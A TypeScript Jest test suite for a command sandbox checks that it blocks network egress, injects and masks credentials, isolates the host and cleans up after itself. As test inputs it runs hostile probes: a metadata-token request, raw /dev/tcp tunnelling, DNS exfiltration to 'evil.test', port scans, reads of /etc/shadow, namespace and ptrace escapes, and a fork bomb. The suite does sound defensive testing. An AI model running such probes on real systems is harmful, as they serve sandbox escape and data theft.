import { execFileSync, spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createServer as createTcpServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createSandboxHost } from '#runner/sandbox-host.ts';
import { sandboxesOn } from '#sandbox/sandbox.ts';
import { openOrigin, openTestSandbox, sh } from './open-test-sandbox.ts';

const proxy = 'http://127.0.0.1:3128';
const fair = `curl -sk -m 5 -x ${proxy} https://allowed.test/fair`;

let origin: Awaited<ReturnType<typeof openOrigin>>;
let box: Awaited<ReturnType<typeof openTestSandbox>>;

beforeAll(async () => {
  origin = await openOrigin();
  box = await openTestSandbox({ port: origin.port });
});
afterAll(async () => {
  await box.sandbox.close();
  await origin.close();
});

/** Every deny case stands between two allowed ones that must succeed: else it proves nothing. */
async function attack(line: string) {
  const before = await sh(box.sandbox, fair);
  const seen = origin.seen.length;
  const calls = box.calls.length;
  const result = await sh(box.sandbox, line);
  const leaked = origin.seen.slice(seen);
  const lines = box.calls.slice(calls);
  const after = await sh(box.sandbox, fair);
  expect([before.output, after.output]).toEqual(['hello\n', 'hello\n']);
  return { ...result, leaked, lines };
}

describe('the way out', () => {
  it('carries TLS to a listed host, by proxy and transparently, to exactly the checked address', async () => {
    const direct = await sh(box.sandbox, 'curl -sk -m 5 --noproxy "*" https://allowed.test/direct');
    const proxied = await sh(box.sandbox, fair);
    expect([direct.output, proxied.output]).toEqual(['hello\n', 'hello\n']);
    expect(new Set(box.dialled)).toEqual(new Set(['93.184.215.14:443']));
    expect(box.calls.at(-1)).toMatchObject({
      kind: 'connect',
      host: 'allowed.test',
      decision: 'allowed',
      rule: 'policy:allowed.test',
      address: '93.184.215.14',
    });
  });

  it.each([
    [
      'a denied host by CONNECT',
      `curl -sk -m 5 -x ${proxy} https://denied.test/`,
      'host-not-listed',
    ],
    ['an address by CONNECT', `curl -sk -m 5 -x ${proxy} https://127.0.0.1/`, 'ip-literal'],
    [
      'a decimal address',
      `printf 'CONNECT 2130706433:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; head -1 <&3'`,
      'ip-literal',
    ],
    [
      'another port of a listed host',
      `curl -sk -m 5 -x ${proxy} https://allowed.test:22/`,
      'connect-port',
    ],
    [
      'another server name than the tunnel’s',
      `curl -sk -m 5 -x ${proxy} --connect-to denied.test:443:allowed.test:443 https://denied.test/`,
      'sni-mismatch',
    ],
    [
      'bytes that are not TLS in a tunnel',
      `printf 'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nSSH-2.0-x\\r\\n' | timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; cat <&3'`,
      'not-tls',
    ],
    [
      'a transparent TLS connection to a denied name',
      'curl -sk -m 5 --noproxy "*" --resolve denied.test:443:93.184.215.14 https://denied.test/',
      'host-not-listed',
    ],
    [
      'TLS without a name to an address',
      'curl -sk -m 5 --noproxy "*" https://93.184.215.14/',
      'sni-missing',
    ],
    [
      'the metadata address',
      'curl -s -m 5 -X PUT http://169.254.169.254/latest/api/token',
      'ip-literal',
    ],
    ['plain HTTP to a listed host', `curl -s -m 5 -x ${proxy} http://allowed.test/`, 'plain-http'],
    [
      'an upgrade',
      `curl -s -m 5 -x ${proxy} -H 'Connection: Upgrade' -H 'Upgrade: websocket' http://allowed.test/`,
      'upgrade',
    ],
    [
      'two hosts in one request',
      `curl -s -m 5 -x ${proxy} -H 'Host: denied.test' http://allowed.test/`,
      'host-conflict',
    ],
    ['another scheme', `curl -s -m 5 -x ${proxy} ftp://allowed.test/`, 'scheme'],
    ['data in a name', 'getent hosts c2VjcmV0.evil.test', 'name-not-listed'],
  ])('egress:closed: refuses %s and writes the line', async (_name, line, rule) => {
    const result = await attack(line);
    expect(result.leaked).toEqual([]);
    expect(result.lines.map((call) => [call.decision, call.rule])).toContainEqual([
      'refused',
      rule,
    ]);
  });

  it('egress:closed: has no route for other ports, protocols and resolvers', async () => {
    const sink = createTcpServer();
    const hits: number[] = [];
    sink.on('connection', () => hits.push(1));
    await new Promise<void>((resolve) => sink.listen(0, '0.0.0.0', resolve));
    const { port } = sink.address() as AddressInfo;
    const result = await attack(
      `for a in 127.0.0.1 10.0.0.1 8.8.8.8; do for p in 22 25 853 5432 ${port}; do timeout 2 bash -c "echo canary > /dev/tcp/$a/$p" 2>/dev/null && echo REACHED $a $p; done; done; ` +
        'timeout 2 bash -c "echo canary > /dev/udp/8.8.8.8/53; cat < /dev/udp/8.8.8.8/53" 2>/dev/null && echo REACHED; ' +
        'ping -c1 -W1 8.8.8.8 >/dev/null 2>&1 && echo PING; true',
    );
    sink.close();
    expect(result.output).toBe('');
    expect([hits, result.leaked]).toEqual([[], []]);
  });

  it('egress:closed: dials no private address a listed name resolves to', async () => {
    const rebound = await openTestSandbox({
      port: origin.port,
      addresses: ['93.184.215.14', '169.254.169.254'],
    });
    const { exitCode } = await sh(rebound.sandbox, fair);
    await rebound.sandbox.close();
    expect(exitCode).not.toBe(0);
    expect(rebound.dialled).toEqual([]);
    expect(rebound.calls).toMatchObject([{ decision: 'refused', rule: 'private-address' }]);
  });
});

describe('a route', () => {
  it('sets the credential outside, drops the client’s, and scrubs what comes back', async () => {
    const asked: unknown[] = [];
    const upstream = createServer((request, response) => {
      asked.push([
        request.method,
        request.url,
        request.headers.authorization,
        request.headers.cookie,
      ]);
      response.end(`you sent ${request.headers.authorization}`);
    });
    await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
    const { port } = upstream.address() as AddressInfo;
    const context = await openTestSandbox({
      routes: [
        {
          host: 'context.sallyport.internal',
          name: 'context',
          upstream: `http://127.0.0.1:${port}/base`,
          paths: ['/mcp'],
          methods: ['POST'],
          header: { name: 'authorization', value: 'Bearer agm_real_token_of_the_session' },
        },
      ],
    });
    const url = 'http://context.sallyport.internal/mcp';
    const post = "-X POST -H 'authorization: Bearer mine' -H 'cookie: a=b' -d x";
    const fetchIt = `node -e 'fetch("${url}",{method:"POST",body:"x"}).then(async r=>console.log(await r.text()))'`;
    const { output } = await sh(
      context.sandbox,
      `curl -s -m 5 -x ${proxy} ${post} ${url}; echo; curl -s -m 5 --noproxy '*' ${post} ${url}; echo; ` +
        `HTTP_PROXY=${proxy} NODE_USE_ENV_PROXY=1 ${fetchIt}; curl -s -m 5 ${url}`,
    );
    await context.sandbox.close();
    upstream.close();
    const masked = `you sent Bearer ${'*'.repeat(29)}`;
    expect(output.split('\n').slice(0, 3)).toEqual([masked, masked, masked]);
    expect(output).toContain('"rule":"method"');
    const seen = ['POST', '/base/mcp', 'Bearer agm_real_token_of_the_session', undefined];
    expect(asked).toEqual([seen, seen, seen]);
  });
});

describe('the walls', () => {
  it('door:one-at-a-time: shows nothing of the host: environment, processes, files, sockets', async () => {
    const { output } = await sh(
      box.sandbox,
      'env | sort | cut -d= -f1 | tr "\\n" " "; echo; cat /proc/1/environ 2>&1 | tr -d "\\0"; echo; ' +
        'ls -d /root /home/runner /run/docker.sock /var/lib /etc/shadow /etc/gitconfig /etc/npmrc /sys 2>/dev/null; ls /run /home; echo "processes: $(ls -d /proc/[0-9]* | wc -l)"',
    );
    const [names, environ] = output.split('\n');
    expect(names).toBe('HOME LANG LOGNAME PATH PWD TMPDIR USER ');
    expect(environ).toContain('Permission denied');
    expect(output).not.toMatch(/docker|shadow|gitconfig|npmrc|\/sys|\/root/);
    expect(Number(/processes: (\d+)/.exec(output)?.[1])).toBeLessThan(8);
  });

  it.each([
    ['a user namespace', 'unshare -U true'],
    ['a network namespace', 'unshare -rn true'],
    ['a mount', 'mount -t tmpfs none /tmp'],
    ['another user by sudo or su', 'sudo -n true || su -c true'],
    ['a route', 'ip route add default dev lo'],
    [
      'a tracer',
      `python3 -c 'import ctypes;import sys;sys.exit(0 if ctypes.CDLL(None).ptrace(0,0,0,0)==0 else 1)' || exit 1`,
    ],
    ['a packet socket', `python3 -c 'import socket;socket.socket(17,3,0)'`],
    ['a write into /usr', 'touch /usr/x'],
    ['a write into /etc', 'echo x >> /etc/hosts'],
  ])('refuses %s', async (_name, line) => {
    const { exitCode } = await attack(`( ${line} ) >/dev/null 2>&1`);
    expect(exitCode).not.toBe(0);
  });

  it('holds a fork bomb and a memory hog, and lives on', async () => {
    const forks = await sh(
      box.sandbox,
      'i=0; while [ $i -lt 400 ]; do sleep 20 & i=$((i+1)); done; echo NOT HELD',
      10_000,
    );
    expect(forks.output).not.toContain('NOT HELD');
    const hog = await sh(
      box.sandbox,
      "node -e 'for(const a=[];;)a.push(Buffer.alloc(1e7,1))'",
      30_000,
    );
    expect(hog.exitCode).not.toBe(0);
    expect((await sh(box.sandbox, fair)).output).toBe('hello\n');
  });

  it('stop:closed: leaves no process of a command, daemons included', async () => {
    const mark = 'sleep 98765';
    await sh(box.sandbox, `setsid nohup ${mark} >/dev/null 2>&1 & (setsid ${mark} &) & sleep 0.2`);
    const hung = await sh(box.sandbox, `setsid ${mark} & ${mark}`, 300);
    expect(hung).toMatchObject({ timedOut: true, exitCode: null });
    const all = readdirSync('/proc')
      .filter((name) => /^\d+$/.test(name))
      .map((pid) => {
        try {
          return readFileSync(`/proc/${pid}/cmdline`, 'utf8').replaceAll('\0', ' ').trim();
        } catch {
          return '';
        }
      });
    expect(all).not.toContain(mark);
  });

  it('cuts a flood of output and says so', async () => {
    const flood = await sh(box.sandbox, 'head -c 9000000 /dev/zero | tr "\\0" x');
    expect(flood.outputTruncated).toBe(true);
    expect(flood.output.length).toBeLessThan(4_100_000);
    expect(flood.output).toContain('[output cut after');
  });

  it('serves siblings in the same network and lets servers be stopped', async () => {
    const server = await box.sandbox.start({
      argv: [
        'node',
        '-e',
        "require('http').createServer((q,s)=>s.end('served\\n')).listen(3000,()=>console.log('up'))",
      ],
      environment: {},
      timeoutMs: 20_000,
    });
    const sibling = box.sandbox.sibling({ workspace: null, mounts: [] });
    const seen = await sh(
      sibling,
      'for i in 1 2 3 4 5 6 7 8 9; do curl -s http://127.0.0.1:3000/ && break; sleep 0.3; done',
    );
    await server.stop();
    const gone = await sh(sibling, 'curl -s -m 2 http://127.0.0.1:3000/');
    await sibling.close();
    expect([seen.output, gone.output]).toEqual(['served\n', '']);
  });
});

describe('opening and closing', () => {
  it('leaves no namespace, cgroup or folder behind, and nothing leaves after it', async () => {
    const one = await openTestSandbox({ port: origin.port });
    const running = sh(one.sandbox, `sleep 1; ${fair}`);
    await one.sandbox.close();
    await one.sandbox.close();
    expect((await running).output).not.toContain('hello');
    expect(one.calls).toEqual([]);
  });

  it('takes down the sandbox of a process that was killed, and leaves those of the living alone', async () => {
    const living = await openTestSandbox({ port: origin.port });
    const owner = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 60_000)']);
    const left = await openTestSandbox({ ownerPid: owner.pid ?? 0 });
    const running = sh(left.sandbox, 'sleep 60321');
    while (!isSleeping('60321')) await new Promise((resolve) => setTimeout(resolve, 10));
    const ours = () =>
      readdirSync('/run/netns').filter((name) => name.startsWith(`sallyport-${owner.pid}-`));
    const before = ours();
    const ended = new Promise((resolve) => owner.once('exit', resolve));
    owner.kill('SIGKILL');
    await ended;

    const next = await openTestSandbox({});
    const after = ours();
    const alive = await sh(living.sandbox, fair);
    await Promise.all([
      living.sandbox.close(),
      next.sandbox.close(),
      left.sandbox.close().catch(() => {}),
    ]);

    expect([before.length, after]).toEqual([1, []]);
    expect((await running).exitCode).toBeNull();
    expect(alive.output).toContain('hello');
  });

  it('takes down a sandbox that was being built when its process was told to stop', async () => {
    const host = createSandboxHost();
    let stop = async () => {};
    let stopped: Promise<void> | undefined;
    const random = host.randomName();
    const ours = () =>
      readdirSync('/run/netns').filter((name) => name === `sallyport-${process.pid}-${random}`);
    let made: readonly string[] = [];
    const opened = await openOnly(null, {
      randomName: () => random,
      onStop: (close: () => Promise<void>) => {
        stop = close;
        return () => undefined;
      },
      run: async (argv: readonly string[]) => {
        // The namespace is not there yet: who deletes it now finds none.
        if (
          argv.includes(`sallyport-${process.pid}-${random}`) &&
          argv.join(' ').includes('netns add')
        ) {
          stopped = stop();
          await new Promise((resolve) => setImmediate(resolve));
        }
        const exit = await host.run(argv);
        if (stopped) made = [...made, ...ours()];
        return exit;
      },
    });
    await stopped;

    expect(opened).toMatchObject({ ok: true });
    expect(made).not.toEqual([]);
    expect(ours()).toEqual([]);
  });

  it('refuses a workspace with a credential', async () => {
    const workspace = mkdtempSync(join(tmpdir(), 'sallyport-unsafe-'));
    mkdirSync(join(workspace, '.git'));
    writeFileSync(join(workspace, '.git', 'config'), '[http]\n\textraheader = AUTHORIZATION: x\n');
    const opened = await openOnly(workspace, {});
    rmSync(workspace, { recursive: true });
    expect(opened).toMatchObject({ ok: false, refusal: { reason: 'workspace_unsafe' } });
  });

  it('says which package is missing before it makes anything', async () => {
    const host = createSandboxHost();
    const run = async (argv: readonly string[]) =>
      argv.includes('bwrap') ? { exitCode: 0, stdout: 'bwrap\n', stderr: '' } : host.run(argv);
    expect(await openOnly(null, { run })).toMatchObject({
      ok: false,
      refusal: {
        reason: 'tool_missing',
        sentence: expect.stringContaining('apt-get install bubblewrap'),
      },
    });
  });

  it('gives the workspace back to us, writable or not', async () => {
    const workspace = mkdtempSync(join(tmpdir(), 'sallyport-work-'));
    const one = await openTestSandbox({ workspace });
    await sh(one.sandbox, 'mkdir d; echo x > d/f; chmod 000 d/f d');
    await one.sandbox.close();
    expect(
      execFileSync('stat', ['-c', '%u', join(workspace, 'd')])
        .toString()
        .trim(),
    ).toBe(String(process.getuid?.()));
    expect(readFileSync(join(workspace, 'd', 'f'), 'utf8')).toBe('x\n');
    rmSync(workspace, { recursive: true });
  });
});

/** Whether a process sleeps for so many seconds: a number that marks it. */
function isSleeping(seconds: string): boolean {
  return readdirSync('/proc').some((id) => {
    try {
      return readFileSync(`/proc/${id}/cmdline`, 'utf8') === `sleep\0${seconds}\0`;
    } catch {
      return false;
    }
  });
}

function openOnly(
  workspace: string | null,
  change: object,
): ReturnType<ReturnType<typeof sandboxesOn>> {
  return sandboxesOn({ ...createSandboxHost(), ...change })({
    phase: 'work',
    workspace,
    mounts: [],
    egress: { hosts: [], routes: [] },
    memoryMib: 256,
    pids: 64,
    onEgress: () => undefined,
  });
}
